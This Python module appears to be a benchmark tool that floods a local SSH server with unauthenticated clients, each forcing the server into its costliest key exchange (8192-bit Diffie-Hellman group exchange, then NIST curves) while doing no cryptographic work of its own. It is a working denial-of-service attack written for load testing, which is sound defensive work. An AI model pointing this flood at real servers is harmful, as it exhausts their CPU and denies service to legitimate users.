"""Raw SSH clients that make a server do key exchanges, as an unauthenticated attacker would.

``python -m bench.kexflood PORT --clients 16 --sources 127.0.0.1`` prints ``ready`` once
every client has had an answer, runs until SIGTERM, then prints one JSON line of counts.
Each client connects, sends its version line and a KEXINIT that prefers an 8192-bit
Diffie-Hellman group exchange ("DHEat"), then the NIST curves from the most expensive
down, so it gets the costliest exchange the server offers; it sends the exchange's first
message without doing any work of its own (a random ``e`` for DH, a fixed precomputed point
for ECDH), waits for the server's reply (the server has done its share by then), and
starts over. A refusal (a DISCONNECT before any KEXINIT) counts as one. The process runs at
a low CPU priority (nice 10): on the benchmark's machine it stands for an attacker whose
CPU is elsewhere, without being starved when the machine is busy.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import secrets
import signal
import struct
import sys
from collections import Counter

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

GEX = b"diffie-hellman-group-exchange-sha256"
CURVES = {  # the costliest first
    b"ecdh-sha2-nistp521": ec.SECP521R1(),
    b"ecdh-sha2-nistp384": ec.SECP384R1(),
    b"ecdh-sha2-nistp256": ec.SECP256R1(),
}
MSG_DISCONNECT, MSG_KEXINIT = 1, 20
MSG_KEX_ECDH_INIT, MSG_KEX_ECDH_REPLY = 30, 31
MSG_GEX_GROUP, MSG_GEX_INIT, MSG_GEX_REPLY, MSG_GEX_REQUEST = 31, 32, 33, 34
GEX_BITS = 8192


def _string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def _mpint(n: int) -> bytes:
    raw = n.to_bytes((n.bit_length() + 8) // 8, "big") if n else b""
    return _string(raw)


def packet(payload: bytes) -> bytes:
    padding = 8 - (5 + len(payload)) % 8
    if padding < 4:
        padding += 8
    return struct.pack(">IB", 1 + len(payload) + padding, padding) + payload + b"\0" * padding


def kexinit() -> bytes:
    lists = [
        b",".join([GEX, *CURVES]),
        b"ssh-ed25519",
        b"aes128-ctr,chacha20-poly1305@openssh.com",
        b"aes128-ctr,chacha20-poly1305@openssh.com",
        b"hmac-sha2-256,hmac-sha2-256-etm@openssh.com",
        b"hmac-sha2-256,hmac-sha2-256-etm@openssh.com",
        b"none",
        b"none",
        b"",
        b"",
    ]
    body = b"".join(_string(x) for x in lists)
    return bytes([MSG_KEXINIT]) + os.urandom(16) + body + b"\0" + b"\0\0\0\0"


class _Reader:
    def __init__(self, reader: asyncio.StreamReader) -> None:
        self.reader = reader

    async def packet(self) -> bytes:
        length = struct.unpack(">I", await self.reader.readexactly(4))[0]
        if not 5 <= length <= 256 * 1024:
            raise ValueError(f"packet length {length}")
        data = await self.reader.readexactly(length)
        return data[1 : length - data[0]]


def _server_kex(payload: bytes) -> list[bytes]:
    size = struct.unpack(">I", payload[17:21])[0]
    return payload[21 : 21 + size].split(b",")


def _read_mpint(data: bytes, at: int) -> tuple[int, int]:
    size = struct.unpack(">I", data[at : at + 4])[0]
    return int.from_bytes(data[at + 4 : at + 4 + size], "big"), at + 4 + size


def fixed_points() -> dict[bytes, bytes]:
    """One public point per curve, made once: the flood itself does no elliptic-curve work."""
    return {
        name: ec.generate_private_key(curve)
        .public_key()
        .public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
        for name, curve in CURVES.items()
    }


async def one_exchange(port: int, source: str, points: dict[bytes, bytes]) -> str:
    """One connection: 'refused', 'gex', 'ecdh' (the server did the work) or 'failed'."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
    try:
        writer.write(b"SSH-2.0-kexflood\r\n" + packet(kexinit()))
        while not (await reader.readline()).startswith(b"SSH-"):
            pass
        packets = _Reader(reader)
        first = await packets.packet()
        if first[0] == MSG_DISCONNECT:
            return "refused"
        if first[0] != MSG_KEXINIT:
            return "failed"
        offered = _server_kex(first)
        if GEX in offered:
            writer.write(packet(bytes([MSG_GEX_REQUEST]) + struct.pack(">III", *[GEX_BITS] * 3)))
            group = await packets.packet()
            if group[0] != MSG_GEX_GROUP:
                return "failed"
            p, _ = _read_mpint(group, 1)
            e = secrets.randbelow(p - 3) + 2
            writer.write(packet(bytes([MSG_GEX_INIT]) + _mpint(e)))
            reply = await packets.packet()
            return "gex" if reply[0] == MSG_GEX_REPLY else "failed"
        for name in CURVES:
            if name in offered:
                writer.write(packet(bytes([MSG_KEX_ECDH_INIT]) + _string(points[name])))
                reply = await packets.packet()
                return "ecdh" if reply[0] == MSG_KEX_ECDH_REPLY else "failed"
        return "failed"
    finally:
        writer.transport.abort()  # no waiting for a flush: a server that stops reading
        # would otherwise hold the client (and the flood's shutdown) up


async def flood(
    port: int, clients: int, sources: list[str], counts: Counter[str], going: asyncio.Event
) -> None:
    """Run the clients until cancelled; ``going`` is set once each has had an answer."""
    points = fixed_points()

    async def client(n: int) -> None:
        source = sources[n % len(sources)]
        while True:
            try:
                outcome = await asyncio.wait_for(one_exchange(port, source, points), 30)
            except (OSError, ValueError, asyncio.IncompleteReadError, asyncio.TimeoutError):
                outcome = "failed"
                await asyncio.sleep(0.01)
            counts[outcome] += 1
            if counts.total() >= clients:
                going.set()

    await asyncio.gather(*(client(n) for n in range(clients)))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.kexflood")
    parser.add_argument("port", type=int)
    parser.add_argument("--clients", type=int, default=16)
    parser.add_argument("--sources", default="127.0.0.1", help="comma-separated source addresses")
    args = parser.parse_args(argv)
    os.nice(10)
    counts: Counter[str] = Counter()

    async def run() -> None:
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, stop.set)
        going = asyncio.Event()
        task = asyncio.ensure_future(
            flood(args.port, args.clients, args.sources.split(","), counts, going)
        )
        waits = [asyncio.ensure_future(going.wait()), asyncio.ensure_future(stop.wait())]
        await asyncio.wait(waits, return_when=asyncio.FIRST_COMPLETED)
        print("ready", flush=True)
        await stop.wait()
        # report and leave at once: cancelling hundreds of half-open exchanges can hang on
        # asyncio.wait_for's cancellation races, and the counts are all that is wanted
        print(json.dumps(dict(counts)), flush=True)
        os._exit(0)
        await task  # not reached

    asyncio.run(run())
    return 0


if __name__ == "__main__":
    sys.exit(main())
